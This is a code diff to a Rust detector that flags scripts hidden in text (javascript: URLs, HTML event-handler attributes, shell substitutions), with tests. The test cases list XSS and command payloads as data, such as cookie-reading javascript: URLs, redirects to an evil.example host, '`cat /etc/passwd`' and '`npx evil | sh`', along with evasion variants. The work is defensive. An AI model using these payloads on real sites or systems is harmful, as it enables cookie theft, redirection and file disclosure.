@@ -44,37 +44,54 @@ const SCRIPT_SCHEMES: [&str; 3] = ["javascript", "vbscript", "livescript"];
 /// How far code is looked for behind `javascript:`, in bytes: a call or an assignment shows in its first words.
 const MAX_CODE_BYTES: usize = 256;
 
+/// What code has and a word of prose has not.
+const CODE_MARKS: [char; 10] = ['(', '`', '=', ';', '%', '+', '[', '{', '"', '\''];
+
 /// Shortest text that is looked at as a program in base64, in bytes: an empty module of WebAssembly has twelve, and
 /// nothing of use is this short.
 const MIN_BINARY_BYTES: usize = 32;
 
-/// Events with a handler in HTML, SVG or a browser's own: behind `on` each is an attribute that runs its value. `onchain`
-/// and `online` are none.
-const EVENTS: &str = "abort|activate|after(?:print|scriptexecute)|animation(?:cancel|end|iteration|start)|auxclick|\
-    before(?:activate|copy|cut|input|match|paste|print|scriptexecute|toggle|unload)|begin|blur|bounce|cancel|\
-    canplay(?:through)?|change|click|close|command|contentvisibilityautostatechange|context(?:lost|menu|restored)|copy|\
-    cuechange|cut|dblclick|drag(?:end|enter|exit|leave|over|start)?|drop|durationchange|emptied|end(?:ed)?|error|finish|\
-    focus(?:in|out)?|formdata|fullscreen(?:change|error)|(?:got|lost)pointercapture|hashchange|input|invalid|\
-    key(?:down|press|up)|languagechange|load(?:eddata|edmetadata|end|start)?|message(?:error)?|\
-    mouse(?:down|enter|leave|move|out|over|up|wheel)|offline|online|page(?:hide|reveal|show|swap)|paste|pause|\
-    play(?:ing)?|pointer(?:cancel|down|enter|leave|move|out|over|rawupdate|up)|popstate|progress|propertychange|\
-    ratechange|readystatechange|rejectionhandled|repeat|reset|resize|scroll(?:end|snapchange|snapchanging)?|search|\
-    securitypolicyviolation|seek(?:ed|ing)|select(?:ionchange|start)?|show|slotchange|stalled|start|storage|submit|\
-    suspend|timeupdate|toggle|touch(?:cancel|end|move|start)|transition(?:cancel|end|run|start)|unhandledrejection|\
-    unload|volumechange|waiting|webkit[a-z]+|wheel|zoom";
+/// Attributes that begin as handlers of events do and are none. Every other `on…` counts as one: browsers have handlers
+/// of their own, and new ones come.
+const HONEST_ATTRIBUTES: [&str; 17] = [
+    "onboard",
+    "onboarded",
+    "onboarding",
+    "onchain",
+    "ondemand",
+    "ongoing",
+    "onion",
+    "online",
+    "onprem",
+    "onpremise",
+    "onpremises",
+    "onset",
+    "onshore",
+    "onsite",
+    "ontology",
+    "onward",
+    "onwards",
+];
 
-/// `<script`, elements with an event handler, those that load a document of their own, and the opening of PHP.
+/// `<script`, elements that load a document of their own, and the opening of PHP.
 static MARKUP: LazyLock<Regex> = LazyLock::new(|| {
-    compiled(&format!(
+    compiled(
         r#"(?is-u)<(?:[a-z]+:)?script(?:[\s/>]|$)
-        |<[a-z][a-z0-9:-]*(?:[\s/](?:[^<>"']|"[^"]*"|'[^']*')*)?(?:[\s/]|"[^"]*"|'[^']*')on(?:{EVENTS})\s*=
         |<(?:iframe|frame|embed|object|applet|portal)[\s/][^<>]*\b(?:src|srcdoc|data|code|codebase)\s*=
         |<(?:set|animate)[\s/][^<>]*attributename\s*=\s*["']?on[a-z]
         |<meta[\s/][^<>]*http-equiv\s*=\s*["']?refresh
         |<base[\s/][^<>]*href\s*=
         |<\?(?:php|=)"#,
-    ))
+    )
 });
+
+/// An element with its attributes, as far as its quotes are closed.
+static ELEMENT: LazyLock<Regex> = LazyLock::new(|| compiled(r#"(?is-u)<[a-z][a-z0-9:-]*(?:[^<>"']|"[^"]*"|'[^']*')*"#));
+
+/// What stands between the names of attributes, and the name of one that begins as a handler does. A quoted value is
+/// taken as a whole.
+static HANDLER: LazyLock<Regex> =
+    LazyLock::new(|| compiled(r#"(?is-u)(?:[\s/]|"[^"]*"|'[^']*')+(?:(on[a-z]{3,})\s*=)?"#));
 
 /// Code given to an interpreter as a string, and calls that no prose makes.
 static CALL: LazyLock<Regex> = LazyLock::new(|| {
@@ -99,11 +116,22 @@ static CODE: LazyLock<Regex> = LazyLock::new(|| {
     )
 });
 
-/// Code behind `javascript:` and white space, where prose goes on: a call as its first word, or a function in brackets.
+/// Code behind `javascript:` and white space in a sentence: a call as its first word, or a function in brackets.
 static CALL_FIRST: LazyLock<Regex> = LazyLock::new(|| {
     compiled(
-        r"(?-u)\A\s+(?:(?:async|await|const|let|new|throw|var|void)\s+)*
+        r"(?s-u)\A(?:/\*.*\*/\s*)?(?:(?:async|await|const|let|new|throw|var|void)\s+)*
             (?:[!~+({\[;-]*[A-Za-z_$][A-Za-z0-9_$]*(?:\??\.[A-Za-z0-9_$]+)*\(|[!~+(-]*\(\s*(?:\(|async\b|function\s*\())",
+    )
+});
+
+/// Words and versions, with brackets around some: "ES2020, Go (1.22)", "(see the manual)".
+static PROSE: LazyLock<Regex> =
+    LazyLock::new(|| compiled(r"(?-u)\A(?:\(?[A-Za-z0-9\x80-\xff-]+\+?(?:\.[0-9]+)*\+?\)*[,;.:]?(?:\s+|\z))+\z"));
+
+/// Functions of browsers that do harm by themselves, before a bracket.
+static HARM: LazyLock<Regex> = LazyLock::new(|| {
+    compiled(
+        r"(?i-u)\b(?:alert|confirm|eval|execscript|fetch|function|import|open|print|prompt|setinterval|settimeout|write)\s+\(",
     )
 });
 
@@ -176,7 +204,7 @@ pub(super) fn find(text: &str, marks: Marks) -> Option<&'static str> {
     let holds = |pattern: &Regex| pattern.is_match(text.as_bytes());
     let url = || marks.any(Marks::COLON) && is_script_url(text);
     match () {
-        () if marks.any(Marks::ANGLE) && holds(&MARKUP) => Some("a script in markup"),
+        () if marks.any(Marks::ANGLE) && (holds(&MARKUP) || has_handler(text)) => Some("a script in markup"),
         () if url() => Some("a script URL"),
         () if marks.any(Marks::HASH_BANG) && holds(&SHEBANG) => Some("a shebang line"),
         () if marks.any(Marks::SHELL | Marks::ANGLE) && holds(&SUBSTITUTION) => Some("a command substitution"),
@@ -186,6 +214,15 @@ pub(super) fn find(text: &str, marks: Marks) -> Option<&'static str> {
         () if text.len() >= MIN_BINARY_BYTES && !text.contains(' ') && holds(&BINARY) => Some("a program in base64"),
         () => None,
     }
+}
+
+/// Whether an element has an attribute that is run when something happens.
+fn has_handler(text: &str) -> bool {
+    let is_honest = |name: &[u8]| HONEST_ATTRIBUTES.iter().any(|known| name.eq_ignore_ascii_case(known.as_bytes()));
+    ELEMENT.find_iter(text.as_bytes()).any(|element| {
+        let mut handlers = HANDLER.captures_iter(element.as_bytes()).filter_map(|found| found.get(1));
+        handlers.any(|name| !is_honest(name.as_bytes()))
+    })
 }
 
 /// Whether the text is nothing but a command and its arguments inside `$(…)`, or a command in backticks. In prose `$(` is
@@ -230,15 +267,26 @@ fn has_script_url(text: &str) -> bool {
         let mut schemes = SCRIPT_SCHEMES.iter().filter(|scheme| ends_with(&text[..at], scheme));
         schemes.any(|scheme| {
             let code = &text[at + 1..text.floor_char_boundary(at + 1 + MAX_CODE_BYTES)];
+            let plain = code.trim_start();
+            let is_apart = plain.len() < code.len();
+            let marked = || if is_apart { plain.contains(['(', '=']) } else { plain.contains(CODE_MARKS) };
             match text[..at - scheme.len()].chars().next_back() {
-                _ if code.starts_with(char::is_whitespace) => CALL_FIRST.is_match(code.as_bytes()),
+                None => plain.starts_with('/') || marked() && !is_prose(plain),
                 // In an attribute or a Markdown link nothing but a URL is expected.
-                Some(before) if "\"'`(=<>".contains(before) => !code.is_empty(),
+                Some(before) if "\"'`(=<>".contains(before) => {
+                    !plain.is_empty() && (!is_apart || marked() && !is_prose(plain))
+                }
                 Some(before) if !before.is_whitespace() => false,
-                _ => CODE.is_match(code.as_bytes()),
+                Some(_) if is_apart => CALL_FIRST.is_match(plain.as_bytes()),
+                Some(_) => CODE.is_match(plain.as_bytes()),
             }
         })
     })
+}
+
+/// Whether words go on behind the name of the language, and not its code.
+fn is_prose(text: &str) -> bool {
+    PROSE.is_match(text.as_bytes()) && !HARM.is_match(text.as_bytes())
 }
 
 /// `data:` with a type that runs, and content behind it; or with no type and markup in base64. White space around the
@@ -322,6 +370,16 @@ mod tests {
             " `cat /etc/passwd` ",
             "`npx evil | sh`",
             "javascript: alert(1)",
+            "javascript:confirm (document.cookie)",
+            "javascript:document .location='//evil.example'",
+            "javascript:1 && fetch('//evil.example')",
+            "javascript:\u{a0}alert(x)",
+            "see javascript:\u{a0}alert(x)",
+            "javascript: /**/alert(x)",
+            "see javascript: /**/alert(x)",
+            "javascript: location='//evil.example'",
+            "javascript:eval (name)",
+            "<a href=\"javascript: 0,alert(x)\">",
             "javascript:alert (1)",
             "javascript:0,alert(1)",
             "javascript:+alert",
@@ -337,6 +395,10 @@ mod tests {
             "first\ndata:text/html,second",
             "data: ;base64,PHNjcmlwdD4=",
             "<body ononline=f()>",
+            "<div ongesturestart=f()>",
+            "<div onmozfullscreenchange=f()>",
+            "<a online=yes onhelp=f() onchain>",
+            "<a title=\"x\"onhelp=f()>",
             "<svg/onload=f()>",
             "<animate onbegin = f()>",
             "<div oncontentvisibilityautostatechange=f()>",
@@ -394,6 +456,7 @@ mod tests {
             "input data: text/html,text/plain",
             "takes data:\ntext/html,\ntext/plain",
             "<proof onchain=\"true\"/>",
+            "<a title=\"say onclick=1\" onward=\"x\">",
             "<agent online=\"yes\"/>",
             "<entry once=\"1\" onboarding=\"done\">",
         ] {
@@ -403,7 +466,21 @@ mod tests {
 
     #[test]
     fn every_pattern_compiles() {
-        for pattern in [&MARKUP, &CALL, &CODE, &CALL_FIRST, &SUBSTITUTION, &QUOTED, &SHEBANG, &BINARY, &ENCODED] {
+        for pattern in [
+            &MARKUP,
+            &ELEMENT,
+            &HANDLER,
+            &CALL,
+            &CODE,
+            &CALL_FIRST,
+            &PROSE,
+            &HARM,
+            &SUBSTITUTION,
+            &QUOTED,
+            &SHEBANG,
+            &BINARY,
+            &ENCODED,
+        ] {
             assert!(!pattern.is_match(b""), "{}", pattern.as_str());
         }
     }
